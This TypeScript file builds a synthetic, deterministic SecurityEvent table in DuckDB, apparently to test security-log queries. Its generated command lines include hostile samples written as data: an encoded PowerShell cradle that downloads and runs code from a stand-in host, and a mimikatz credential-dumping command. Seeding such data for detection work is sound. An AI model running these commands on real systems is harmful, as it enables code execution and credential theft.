/**
 * A seeded, SecurityEvent-like table generated inside DuckDB with one SQL statement, cached in
 * a DuckDB file. Every column is a deterministic function of the row number (DuckDB's hash()),
 * so the same row count gives the same data for a given DuckDB version.
 *
 * Shape: TimeGenerated over 30 days; Computer from ~500 hosts (a few DCs and servers, many
 * workstations, skewed); Account from ~5,000 (mostly CONTOSO\user, some NT AUTHORITY\…, some
 * local); EventID with a realistic mix (4624 and 4634 dominate, 1102 is rare); LogonType for
 * logon events; IpAddress; Process and CommandLine for 4688 (powershell, -enc, whoami are
 * uncommon, mimikatz is very rare); Activity as Sentinel writes it (`4624 - An account was…`).
 */
import { existsSync, mkdirSync, readFileSync, renameSync, rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { DuckDBInstance } from '@duckdb/node-api';

/** Bump when the generated data changes: cached files of another version are rebuilt. */
export const GENERATOR_VERSION = 1;

interface CacheStamp {
  generatorVersion: number;
  rows: number;
  duckdbVersion: string;
}

/** Makes sure `databasePath` holds a SecurityEvent table of `rows` rows from this generator. */
export async function ensureSecurityEvents(databasePath: string, rows: number, log: (line: string) => void = () => {}): Promise<void> {
  const stampPath = `${databasePath}.stamp.json`;
  const wanted: CacheStamp = { generatorVersion: GENERATOR_VERSION, rows, duckdbVersion: await duckdbVersion() };
  if (existsSync(databasePath) && existsSync(stampPath) && sameStamp(JSON.parse(readFileSync(stampPath, 'utf8')) as CacheStamp, wanted)) {
    return;
  }
  log(`generating SecurityEvent (${rows.toLocaleString('en-US')} rows) in ${databasePath} …`);
  const started = performance.now();
  mkdirSync(path.dirname(databasePath), { recursive: true });
  // Build under a temporary name, so an interrupted run never leaves a half-made cache.
  const building = `${databasePath}.building`;
  rmSync(building, { force: true });
  rmSync(`${building}.wal`, { force: true });
  const instance = await DuckDBInstance.create(building);
  const connection = await instance.connect();
  try {
    await connection.run(securityEventSql(rows));
    await connection.run('CHECKPOINT');
  } finally {
    connection.closeSync();
    instance.closeSync();
  }
  rmSync(databasePath, { force: true });
  rmSync(`${databasePath}.wal`, { force: true });
  renameSync(building, databasePath);
  writeFileSync(stampPath, JSON.stringify(wanted, null, 2) + '\n');
  log(`generated in ${((performance.now() - started) / 1000).toFixed(1)} s`);
}

function sameStamp(a: CacheStamp, b: CacheStamp): boolean {
  return a.generatorVersion === b.generatorVersion && a.rows === b.rows && a.duckdbVersion === b.duckdbVersion;
}

async function duckdbVersion(): Promise<string> {
  const instance = await DuckDBInstance.create(':memory:');
  const connection = await instance.connect();
  try {
    const reader = await connection.runAndReadAll('SELECT version()');
    return String(reader.getRows()[0]![0]);
  } finally {
    connection.closeSync();
    instance.closeSync();
  }
}

const sqlList = (items: readonly string[]) => `[${items.map((s) => `'${s.replace(/'/g, "''")}'`).join(', ')}]`;

const LAST_NAMES = [
  'smith', 'johnson', 'williams', 'brown', 'jones', 'garcia', 'miller', 'davis', 'rodriguez', 'martinez',
  'hernandez', 'lopez', 'gonzalez', 'wilson', 'anderson', 'thomas', 'taylor', 'moore', 'jackson', 'martin',
  'lee', 'perez', 'thompson', 'white', 'harris', 'sanchez', 'clark', 'ramirez', 'lewis', 'robinson',
  'walker', 'young', 'allen', 'king', 'wright', 'scott', 'torres', 'nguyen', 'hill', 'flores',
];
const SERVICES = ['netsvcs', 'LocalService', 'NetworkService', 'DcomLaunch', 'RPCSS', 'LocalSystemNetworkRestricted', 'UnistackSvcGroup', 'wusvcs'];
const CMD_COMMANDS = ['dir C:\\Users', 'ipconfig /all', 'net user', 'net localgroup administrators', 'whoami /all', 'whoami', 'tasklist /v', 'echo %TEMP%', 'systeminfo', 'ping -n 1 10.0.0.1'];
const BROWSER_SITES = ['https://portal.contoso.com/', 'https://outlook.office.com/mail/', 'https://teams.microsoft.com/', 'https://intranet.contoso.local/hr'];

/** Uniform double in [0, 1) for row `i` and a named stream. */
const uniform = (stream: string) => `(hash(i, '${stream}') % 1000003)::DOUBLE / 1000003`;

/** The statement that creates the table. */
export function securityEventSql(rows: number): string {
  const thirtyDaysMicros = 30 * 86_400 * 1_000_000;
  return `
CREATE TABLE SecurityEvent AS
WITH draws AS (
  SELECT
    i,
    TIMESTAMP '2024-05-01 00:00:00' + to_microseconds((hash(i, 'time') % ${thirtyDaysMicros})::BIGINT) AS TimeGenerated,
    floor(pow(${uniform('host')}, 2) * 500)::INTEGER AS host,
    floor(pow(${uniform('account')}, 1.7) * 5000)::INTEGER AS account,
    ${uniform('event')} AS u_event,
    ${uniform('logon')} AS u_logon,
    ${uniform('ip')} AS u_ip,
    (hash(i, 'ipbits') % 4294967296)::BIGINT AS ip_bits,
    ${uniform('process')} AS u_process,
    (hash(i, 'pick') % 1000000007)::BIGINT AS pick
  FROM range(${rows}) AS t(i)
),
events AS (
  SELECT *,
    CASE
      WHEN u_event < 0.38 THEN 4624 WHEN u_event < 0.58 THEN 4634 WHEN u_event < 0.76 THEN 4688
      WHEN u_event < 0.83 THEN 4672 WHEN u_event < 0.89 THEN 4625 WHEN u_event < 0.92 THEN 4648
      WHEN u_event < 0.955 THEN 4768 WHEN u_event < 0.985 THEN 4769 WHEN u_event < 0.99 THEN 4776
      WHEN u_event < 0.995 THEN 4663 WHEN u_event < 0.997 THEN 4740 WHEN u_event < 0.998 THEN 4720
      WHEN u_event < 0.9985 THEN 4722 WHEN u_event < 0.999 THEN 4724 WHEN u_event < 0.9999 THEN 4738
      ELSE 1102
    END::INTEGER AS EventID
  FROM draws
),
logons AS (
  SELECT *,
    CASE WHEN EventID IN (4624, 4625, 4634) THEN
      CASE WHEN u_logon < 0.55 THEN 3 WHEN u_logon < 0.75 THEN 2 WHEN u_logon < 0.85 THEN 5
           WHEN u_logon < 0.92 THEN 10 WHEN u_logon < 0.97 THEN 11 ELSE 4 END
    END::INTEGER AS LogonType
  FROM events
)
SELECT
  TimeGenerated,
  CASE
    WHEN host < 6 THEN 'DC' || lpad((host + 1)::VARCHAR, 2, '0') || '.contoso.local'
    WHEN host < 60 THEN 'SRV-' || lpad(host::VARCHAR, 3, '0') || '.contoso.local'
    ELSE 'WKS-' || lpad(host::VARCHAR, 4, '0') || '.contoso.local'
  END AS Computer,
  CASE
    WHEN account = 0 THEN 'NT AUTHORITY\\SYSTEM'
    WHEN account = 1 THEN 'NT AUTHORITY\\NETWORK SERVICE'
    WHEN account = 2 THEN 'NT AUTHORITY\\LOCAL SERVICE'
    WHEN account % 11 = 4 THEN chr(97 + account % 26) || ${sqlList(LAST_NAMES)}[(account // 26) % 40 + 1] || (account // 1040)::VARCHAR
    ELSE 'CONTOSO\\' || chr(97 + account % 26) || ${sqlList(LAST_NAMES)}[(account // 26) % 40 + 1] || (account // 1040)::VARCHAR
  END AS Account,
  EventID,
  CASE EventID
    WHEN 4624 THEN '4624 - An account was successfully logged on.'
    WHEN 4625 THEN '4625 - An account failed to log on.'
    WHEN 4634 THEN '4634 - An account was logged off.'
    WHEN 4648 THEN '4648 - A logon was attempted using explicit credentials.'
    WHEN 4663 THEN '4663 - An attempt was made to access an object.'
    WHEN 4672 THEN '4672 - Special privileges assigned to new logon.'
    WHEN 4688 THEN '4688 - A new process has been created.'
    WHEN 4720 THEN '4720 - A user account was created.'
    WHEN 4722 THEN '4722 - A user account was enabled.'
    WHEN 4724 THEN '4724 - An attempt was made to reset an account''s password.'
    WHEN 4738 THEN '4738 - A user account was changed.'
    WHEN 4740 THEN '4740 - A user account was locked out.'
    WHEN 4768 THEN '4768 - A Kerberos authentication ticket (TGT) was requested.'
    WHEN 4769 THEN '4769 - A Kerberos service ticket was requested.'
    WHEN 4776 THEN '4776 - The computer attempted to validate the credentials for an account.'
    ELSE '1102 - The audit log was cleared.'
  END AS Activity,
  LogonType,
  CASE
    WHEN LogonType IN (3, 10) AND u_ip < 0.97 THEN
      '10.' || (ip_bits % 4)::VARCHAR || '.' || (ip_bits // 4 % 256)::VARCHAR || '.' || (ip_bits // 1024 % 254 + 1)::VARCHAR
    WHEN LogonType IN (3, 10) THEN
      '185.220.' || (100 + ip_bits % 4)::VARCHAR || '.' || (ip_bits // 4 % 254 + 1)::VARCHAR
    WHEN LogonType IS NOT NULL AND u_ip < 0.5 THEN '127.0.0.1'
    ELSE '-'
  END AS IpAddress,
  ${processSql()} AS Process,
  ${commandLineSql()} AS CommandLine
FROM logons`;
}

/**
 * Process-creation mix for 4688, by u_process: svchost 40%, chrome 15%, cmd 14%, conhost 10%,
 * powershell 12% (a tenth of it with -enc), explorer 5%, net 3.99%, mimikatz 0.01%.
 */
const PROCESS_BANDS: { upTo: number; process: string }[] = [
  { upTo: 0.4, process: 'svchost.exe' },
  { upTo: 0.55, process: 'chrome.exe' },
  { upTo: 0.69, process: 'cmd.exe' },
  { upTo: 0.79, process: 'conhost.exe' },
  { upTo: 0.91, process: 'powershell.exe' },
  { upTo: 0.96, process: 'explorer.exe' },
  { upTo: 0.9999, process: 'net.exe' },
  { upTo: 1.01, process: 'mimikatz.exe' },
];

function processBand(name: string): { from: number; to: number } {
  const index = PROCESS_BANDS.findIndex((b) => b.process === name);
  return { from: index === 0 ? 0 : PROCESS_BANDS[index - 1]!.upTo, to: PROCESS_BANDS[index]!.upTo };
}

function processSql(): string {
  const bands = PROCESS_BANDS.map((b) => `WHEN u_process < ${b.upTo} THEN '${b.process}'`).join(' ');
  return `CASE WHEN EventID = 4688 THEN CASE ${bands} END
    WHEN EventID IN (4624, 4625) AND u_process < 0.7 THEN 'lsass.exe'
    ELSE '-' END`;
}

function commandLineSql(): string {
  const powershell = processBand('powershell.exe');
  const encodedFrom = powershell.to - (powershell.to - powershell.from) / 10;
  const pick = (list: readonly string[]) => `${sqlList(list)}[pick % ${list.length} + 1]`;
  return `CASE WHEN EventID <> 4688 THEN ''
    WHEN u_process < ${processBand('svchost.exe').to} THEN 'C:\\Windows\\system32\\svchost.exe -k ' || ${pick(SERVICES)} || ' -p'
    WHEN u_process < ${processBand('chrome.exe').to} THEN '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --single-argument ' || ${pick(BROWSER_SITES)}
    WHEN u_process < ${processBand('cmd.exe').to} THEN 'cmd.exe /c ' || ${pick(CMD_COMMANDS)}
    WHEN u_process < ${processBand('conhost.exe').to} THEN '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1'
    WHEN u_process < ${encodedFrom} THEN 'powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\task' || (pick % 40)::VARCHAR || '.ps1'
    WHEN u_process < ${powershell.to} THEN 'powershell.exe -nop -w hidden -enc ' || to_base64(('IEX (New-Object Net.WebClient).DownloadString(''http://10.9.' || (pick % 200)::VARCHAR || '.7/a'')')::BLOB)
    WHEN u_process < ${processBand('explorer.exe').to} THEN 'C:\\Windows\\Explorer.EXE'
    WHEN u_process < ${processBand('net.exe').to} THEN 'net.exe group "Domain Admins" /domain'
    ELSE 'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit'
  END`;
}
